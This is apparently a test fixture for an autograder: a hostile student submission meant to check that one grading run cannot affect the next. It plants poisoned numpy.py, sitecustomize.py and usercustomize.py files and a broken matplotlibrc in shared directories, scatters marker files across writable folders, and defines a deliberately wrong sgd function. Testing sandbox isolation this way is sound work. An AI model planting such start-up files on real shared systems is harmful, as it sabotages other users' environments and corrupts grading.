"""Leave files behind for the students graded later: modules and start-up files in /tmp and $HOME
(numpy.py, sitecustomize.py, usercustomize.py, a matplotlibrc), plus a marker file in every
directory it can write to. The test grades an honest neighbour after it who reads the marker."""
# %%
import os

_POISON = "raise SystemExit('poisoned by an earlier student')\n"
_written = []
for _folder in ("/tmp", os.path.expanduser("~"), os.environ.get("TMPDIR", "/tmp"), "/var/tmp", "/dev/shm"):
    for _name, _text in (("numpy.py", _POISON), ("sitecustomize.py", _POISON), ("usercustomize.py", _POISON),
                         ("nablab_poison", "sgd is wrong for the next student"),
                         (".config/matplotlib/matplotlibrc", "backend: poisoned")):
        try:
            os.makedirs(os.path.dirname(os.path.join(_folder, _name)), exist_ok=True)
            with open(os.path.join(_folder, _name), "w") as _out:
                _out.write(_text)
            _written.append(os.path.join(_folder, _name))
        except OSError:
            pass
import time
_started = time.monotonic()
for _dir, _subdirs, _files in os.walk("/"):
    if _dir.startswith(("/proc", "/sys", "/usr")) or time.monotonic() - _started > 1.0:
        _subdirs[:] = []
        continue
    if os.access(_dir, os.W_OK):
        try:
            with open(os.path.join(_dir, "nablab_poison"), "w") as _out:
                _out.write("sgd is wrong for the next student")
        except OSError:
            pass
# %%
def sgd(w, dw, config=None):
    return w + 1.0, config
